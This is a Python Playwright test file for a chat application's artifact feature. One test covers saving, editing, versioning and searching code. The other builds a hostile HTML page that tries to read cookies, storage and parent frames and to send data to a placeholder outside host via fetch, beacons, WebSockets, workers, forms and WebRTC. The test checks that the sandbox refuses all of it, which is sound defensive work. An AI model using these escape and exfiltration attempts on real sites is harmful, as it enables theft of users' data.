"""Code saved from an answer, edited, compared and found; and the isolation of an artifact's frame."""

import http.server
import json
import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.fakes.openai_server import Answer
from tests.functional.conftest import ADDRESSES, ScriptedHub, finished, shoot, sign_up
from tests.functional.looks import look

ANSWER = """## Adding up

```python
def add(a, b):
    return a - b
```

| a | b | sum |
|---|---|----:|
| 1 | 2 | 3 |
"""
# A hostile page; each line records the result of one attempt.
HOSTILE = """<!doctype html><meta charset="utf-8"><title>x</title>
<style>body { background: url(OUT/style) } @import "OUT/import.css";</style>
<link rel="prefetch" href="OUT/prefetch"><link rel="preconnect" href="OUT"><base href="OUT/">
<img src="OUT/img"><script src="OUT/script.js"></script><iframe src="OUT/frame"></iframe>
<iframe srcdoc="<script>CALL</script>"></iframe>
<div><template ShadowRootMode="closed"><iframe srcdoc="<script>CALL</script>"></iframe></template></div>
<form id="form" action="OUT/form"><input name="a" value="b"></form><p id="said"></p>
<script>
const tried = {};
const note = (name, act) => { try { tried[name] = String(act()) } catch (error) { tried[name] = "refused" } };
note("cookie", () => document.cookie);
note("storage", () => localStorage.length);
note("parent", () => parent.document.title);
note("top", () => { top.location = "OUT/top"; return "led away" });
note("popup", () => open("OUT/popup") ? "opened" : "refused");
note("origin", () => self.origin);
note("form", () => { document.getElementById("form").submit(); return "sent" });
note("worker", () => { new Worker("data:text/javascript,fetch('OUT/worker')"); return "made" });
note("beacon", () => navigator.sendBeacon("OUT/beacon", "x"));
note("socket", () => { new WebSocket("OUT/socket".replace("http", "ws")); return "made" });
note("image", () => { new Image().src = "OUT/image"; return "asked" });
note("webrtc", () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); return "made" });
// A frame within would have a WebRTC of its own; it is looked for by what a page can tamper with.
const call = "CALL";
Object.defineProperty(NodeList.prototype, "length", { get: () => 0 });
Object.prototype.attributeFilter = 5;
const within = (frame) => `<div><template shadowroot${"mode"}="closed">${frame}</template></div>`;
const put = (node) => document.documentElement.append(node);
for (const [name, value] of [["srcdoc", `<script>${call}<\\/script>`], ["src", `javascript:${call}`]]) {
  const frame = document.createElement("iframe");
  frame[name] = value;
  put(frame);
  const host = document.createElement("div"), inner = frame.cloneNode();
  put(host);
  host.attachShadow({ mode: "closed", clonable: true }).append(inner);
  put(host.cloneNode(true));
  const div = document.createElement("div");
  put(div);
  note("unsafe", () => div.setHTMLUnsafe(within(frame.outerHTML)));
  note("parsed", () => put(document.adoptNode(Document.parseHTMLUnsafe(within(frame.outerHTML)).body.firstChild)));
  note("written", () => { document.write(within(frame.outerHTML)); document.write("<div><template shadowroot") });
}
</script>mode=closed><iframe srcdoc="<script>CALL</script>"></iframe></template></div><script>
const show = () => { document.getElementById("said").textContent = JSON.stringify(tried) };
fetch("OUT/fetch", { mode: "no-cors" }).then(() => (tried.fetch = "sent"), () => (tried.fetch = "refused"))
  .then(() => fetch("HUB/chat/api/account", { credentials: "include" }))
  .then(() => (tried.account = "read"), () => (tried.account = "refused")).then(show);
document.getElementById("said").onclick = () => { location = "OUT/away" };  // once it has been read
show();
</script>"""

CALL = (
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:UDP' }] }); p.createDataChannel('x'); "
    "p.createOffer().then((offer) => p.setLocalDescription(offer))"
)


@pytest.fixture
def outside() -> Iterator[tuple[str, list[str]]]:
    """Run a server of another origin. Yield its address and the list of requested paths."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(server.server_address)
    datagrams.setblocking(False)
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
    with datagrams, pytest.raises(BlockingIOError):
        datagrams.recv(2000)


def write(page: Page, title: str, kind: str, content: str) -> None:
    page.locator("#artifact-kind").select_option(kind)
    page.locator("#artifact-title").fill(title)
    page.locator("#artifact-content").fill(content)
    page.get_by_role("button", name="Save", exact=True).click()
    page.wait_for_url(re.compile(r"/artifacts/art_"))


def artifacts_of(page: Page) -> str:
    workspace = page.locator("body").get_attribute("data-workspace")
    return f"/workspaces/{workspace}/artifacts/"


def test_code_is_kept_edited_compared_and_found(
    open_scripted_page: Callable[..., Page], scripted_hub: ScriptedHub
) -> None:
    scripted_hub.server.respond = lambda request: Answer(ANSWER)
    page = open_scripted_page()
    sign_up(page, "keeper")
    page.locator(".composer textarea").fill("How do I add up in Python?")
    page.keyboard.press("Enter")
    answer = page.locator(".message--assistant").last
    finished(answer)
    keep = answer.locator(".keep-bar button")
    expect(keep).to_have_count(2)
    keep.first.click()
    panel = page.locator("#panel")
    expect(panel.locator(".artifact__title")).to_have_text("Adding up", timeout=10_000)
    expect(panel.locator("pre")).to_contain_text("return a - b")
    look(page, "artifact-panel")
    panel.locator("summary", has_text="Edit").click()
    panel.locator("textarea").fill("def add(a, b):\n    return a + b\n")
    page.once("dialog", lambda dialog: dialog.dismiss())
    panel.get_by_role("button", name="Memory").click()  # what was typed is left only after a question
    panel.get_by_role("button", name="Save as a new version").click()
    expect(panel.locator("pre")).to_contain_text("return a + b")
    expect(panel.get_by_text("Version 2")).to_be_visible()
    panel.get_by_role("link", name="Versions").click()
    expect(page.locator(".diff__removed")).to_contain_text("return a - b")
    expect(page.locator(".diff__added")).to_contain_text("return a + b")
    page.get_by_role("button", name="Restore").click()
    expect(page.locator(".artifact pre")).to_contain_text("return a - b")
    address = artifacts_of(page)
    page.goto(address.replace("/artifacts/", "/search/") + "?q=add+a+b")
    expect(page.locator(".found").filter(has_text="Adding up").first).to_be_visible()
    page.goto(address)
    page_runs_in_its_frame(page)


def page_runs_in_its_frame(page: Page) -> None:
    write(page, "Hello", "html", "<h1>Hello</h1><script>document.body.append('it runs')</script>")
    expect(page.frame_locator(".artifact__frame").locator("body")).to_contain_text("it runs")
    shoot(page, "artifact-frame")
    page.get_by_role("link", name="Source").click()
    expect(page.locator(".artifact pre")).to_contain_text("document.body.append")
    assert page.locator("iframe").count() == 0


def without_allowlist(route: Route) -> None:
    answer = route.fetch()
    headers = {name: value for name, value in answer.headers.items() if name != "connection-allowlist"}
    route.fulfill(response=answer, headers=headers)


def test_hostile_artifact_reaches_nothing(
    browser: Browser, scripted_hub: ScriptedHub, outside: tuple[str, list[str]]
) -> None:
    """The isolation holds in a browser without the header against WebRTC as well."""
    there, requested = outside
    hostile = HOSTILE.replace("CALL", CALL).replace("OUT", there).replace("UDP", there[7:])
    hostile = hostile.replace("HUB", scripted_hub.address)
    with ExitStack() as contexts:
        attacked: list[tuple[Page, str, str]] = []
        for knows_header in (True, False):
            context = browser.new_context(
                base_url=scripted_hub.address, extra_http_headers={"X-Forwarded-For": next(ADDRESSES)}
            )
            contexts.callback(context.close)
            page = context.new_page()
            if not knows_header:
                page.route("**/frame/*", without_allowlist)
            sign_up(page, f"attacked-{knows_header}")
            page.goto(artifacts_of(page))
            write(page, "Hostile", "html", hostile)
            attacked.append((page, page.url, page.title()))
            said = page.frame_locator(".artifact__frame").locator("#said")
            expect(said).to_contain_text('"account"', timeout=60_000)
            tried = json.loads(said.inner_text())
            refused = {"cookie", "storage", "parent", "fetch", "account", "popup", "top", "webrtc"}
            results = {name: tried[name] for name in refused}
            assert results == dict.fromkeys(refused, "refused"), knows_header
            assert tried["origin"] == "null", knows_header
            said.click()
        page.wait_for_timeout(500)  # delayed attempts of both
        assert requested == []
        for page, address, title in attacked:
            assert (page.url, page.title(), len(page.context.pages)) == (address, title, 1)
            # In a tab of its own it could navigate the tab, so the surrounding page is shown instead.
            page.unroute_all()
            page.goto(f"{address}frame/")
            assert page.url == address
        page.wait_for_timeout(500)
        assert requested == []
